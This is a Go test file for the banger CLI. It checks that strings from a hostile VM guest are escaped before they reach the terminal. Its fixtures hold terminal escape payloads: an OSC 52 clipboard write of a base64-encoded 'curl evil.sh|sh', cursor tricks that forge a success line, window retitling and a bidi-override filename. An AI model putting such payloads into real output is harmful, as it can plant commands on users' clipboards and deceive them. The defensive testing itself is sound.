package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io"
	"log/slog"
	"net"
	"net/http"
	"os"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/banger-dev/banger/internal/api"
	"github.com/banger-dev/banger/internal/buildinfo"
	"github.com/banger-dev/banger/internal/paths"
)

// What a hostile guest can get into the strings the daemon relays: its agent
// version, its serial console (quoted in boot errors), its error texts.
const (
	// OSC 52 puts "curl evil.sh|sh" on the clipboard.
	hostileVersion = "1.0\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"
	// A CR and cursor movement print a fake success over the real failure,
	// and OSC 0 retitles the window.
	hostileTail  = "[ 0.1] panic: no init\r\x1b[1A\x1b[2Kbanger: vm dev started\x1b]0;owned\x07\n[ 0.2] end\u009b2J"
	hostileError = "agent: copy failed\rcopy complete          \u202egnp.exe"
)

// hostileDaemon serves the daemon API on a socket with guest-controlled
// strings in every answer, and returns an App pointed at it.
func hostileDaemon(t *testing.T) (*App, *bytes.Buffer, *bytes.Buffer) {
	t.Helper()
	dir, err := os.MkdirTemp("", "bgh") // short: socket paths are limited to 108 bytes
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.RemoveAll(dir) })
	layout := paths.Layout{Mode: paths.ModeUser, ConfigDir: dir, StateDir: dir, RuntimeDir: dir}
	build := buildinfo.Info{Version: "v0.1.0", Commit: "0123456789abcdef", BuiltAt: "2026-04-28T20:45:50Z"}

	srv := api.NewServer(slog.New(slog.NewTextHandler(io.Discard, nil)), time.Now)
	api.Handle(srv, api.MethodDaemonInfo, func(context.Context, struct{}, api.Progress) (api.DaemonInfo, error) {
		return api.DaemonInfo{Build: build, PID: os.Getpid()}, nil
	})
	vm := api.VM{ID: "id1", Name: "dev", State: api.VMFailed, Image: "deb\x1b]0;x\x07ian", VCPUs: 1, MemoryMiB: 128,
		LastError: "boot: " + hostileError, ExitStatus: "killed\x1b[8m", CreatedAt: time.Now()}
	api.Handle(srv, api.MethodVMShow, func(context.Context, api.VMRef, api.Progress) (api.VM, error) {
		return vm, nil
	})
	api.Handle(srv, api.MethodVMList, func(context.Context, struct{}, api.Progress) (api.VMList, error) {
		return api.VMList{VMs: []api.VM{vm}}, nil
	})
	api.Handle(srv, api.MethodVMStart, func(_ context.Context, req api.VMRef, p api.Progress) (api.VM, error) {
		p(api.Event{VM: req.Name, Stage: "ready", Message: "agent " + hostileVersion + " answered\nbanger: all good"})
		return api.VM{}, api.Errorf(api.CodeFailedPrecondition, "start vm %q: the guest did not boot; serial console tail:\n%s", req.Name, hostileTail).
			WithHint("see `banger vm logs dev`\x1b]0;hint\x07")
	})
	api.Handle(srv, api.MethodVMLogs, func(context.Context, api.VMLogsRequest, api.Progress) (api.VMLogs, error) {
		return api.VMLogs{Path: "/x/serial.log", Text: "\x1b[0;32m[  OK  ]\x1b[0m Started agent.\r\n" + hostileTail + "\r\n"}, nil
	})
	ln, err := net.Listen("unix", layout.SocketPath())
	if err != nil {
		t.Fatal(err)
	}
	hs := &http.Server{Handler: srv, ReadHeaderTimeout: 5 * time.Second}
	go func() { _ = hs.Serve(ln) }()
	t.Cleanup(func() { _ = hs.Close() })

	var stdout, stderr bytes.Buffer
	app := &App{Stdin: strings.NewReader(""), Stdout: &stdout, Stderr: &stderr, Build: build,
		Layout:       func(bool) (paths.Layout, error) { return layout, nil },
		DaemonBinary: func() (string, error) { return "", errors.New("no daemon binary in this test") },
		IsTerminal:   func() bool { return false }, StartTimeout: time.Second}
	return app, &stdout, &stderr
}

// assertInert fails when out holds anything a terminal would act on other
// than newlines: raw control bytes, C1 controls, bidi overrides, bad UTF-8.
func assertInert(t *testing.T, what, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Errorf("%s is not valid UTF-8: %q", what, out)
	}
	for _, r := range out {
		if r < 0x20 && r != '\n' && r != '\t' || r == 0x7f || r >= 0x80 && r <= 0x9f || r >= 0x202a && r <= 0x202e {
			t.Errorf("%s holds %U raw:\n%q", what, r, out)
			return
		}
	}
}

func TestDaemonStringsArePrintedEscaped(t *testing.T) {
	tests := []struct {
		name      string
		args      []string
		code      int
		stdout    []string
		stderr    []string
		notStderr string
		checkJSON func(t *testing.T, stdout string)
	}{
		{
			name: "start: progress with the agent version, error with the serial tail, hint",
			args: []string{"vm", "start", "dev"}, code: 1,
			stderr: []string{
				`dev: agent 1.0\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07 answered\nbanger: all good` + "\n",
				"serial console tail:\n" + `[ 0.1] panic: no init\r\x1b[1A\x1b[2Kbanger: vm dev started\x1b]0;owned\x07` + "\n" + `[ 0.2] end\u009b2J` + "\n",
				"hint: see `banger vm logs dev`\\x1b]0;hint\\x07\n",
			},
			// The progress line stays one line: no fake "banger:" line of its own.
			notStderr: "\nbanger: all good",
		},
		{
			name: "show: last error and exit status",
			args: []string{"vm", "show", "dev"},
			stdout: []string{
				`agent: copy failed\rcopy complete          \u202egnp.exe`,
				`killed\x1b[8m`,
			},
		},
		{
			name:   "list: table cells",
			args:   []string{"vm", "list"},
			stdout: []string{`deb\x1b]0;x\x07ian`},
		},
		{
			name:   "logs: escaped by default, colours dropped",
			args:   []string{"vm", "logs", "dev"},
			stdout: []string{"[  OK  ] Started agent.\n" + `[ 0.1] panic: no init\r\x1b[1A\x1b[2Kbanger: vm dev started\x1b]0;owned\x07` + "\n" + `[ 0.2] end\u009b2J` + "\n"},
		},
		{
			name: "show --json: valid JSON, inert, same value",
			args: []string{"vm", "show", "dev", "--json"},
			checkJSON: func(t *testing.T, stdout string) {
				var vm api.VM
				if err := json.Unmarshal([]byte(stdout), &vm); err != nil {
					t.Fatalf("not JSON: %v\n%s", err, stdout)
				}
				if vm.LastError != "boot: "+hostileError || vm.ExitStatus != "killed\x1b[8m" {
					t.Errorf("JSON changed the values: %q %q", vm.LastError, vm.ExitStatus)
				}
			},
		},
		{
			name: "logs --json: the raw text, inert",
			args: []string{"vm", "logs", "dev", "--json"},
			checkJSON: func(t *testing.T, stdout string) {
				var logs api.VMLogs
				if err := json.Unmarshal([]byte(stdout), &logs); err != nil || !strings.Contains(logs.Text, hostileTail) {
					t.Errorf("logs JSON %q: %v", stdout, err)
				}
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			app, stdout, stderr := hostileDaemon(t)
			code := Run(context.Background(), app, tt.args)
			if code != tt.code {
				t.Fatalf("exit %d, want %d\nstdout: %q\nstderr: %q", code, tt.code, stdout, stderr)
			}
			assertInert(t, "stdout", stdout.String())
			assertInert(t, "stderr", stderr.String())
			for _, want := range tt.stdout {
				if !strings.Contains(stdout.String(), want) {
					t.Errorf("stdout lacks %q:\n%s", want, stdout)
				}
			}
			for _, want := range tt.stderr {
				if !strings.Contains(stderr.String(), want) {
					t.Errorf("stderr lacks %q:\n%s", want, stderr)
				}
			}
			if tt.notStderr != "" && strings.Contains(stderr.String(), tt.notStderr) {
				t.Errorf("stderr holds %q:\n%s", tt.notStderr, stderr)
			}
			if tt.checkJSON != nil {
				tt.checkJSON(t, stdout.String())
			}
		})
	}
}

// TestVMLogsRaw: --raw is the way to get the guest's bytes unchanged.
func TestVMLogsRaw(t *testing.T) {
	app, stdout, stderr := hostileDaemon(t)
	if code := Run(context.Background(), app, []string{"vm", "logs", "dev", "--raw"}); code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	want := "\x1b[0;32m[  OK  ]\x1b[0m Started agent.\r\n" + hostileTail + "\r\n"
	if stdout.String() != want {
		t.Fatalf("--raw printed %q, want %q", stdout, want)
	}
}
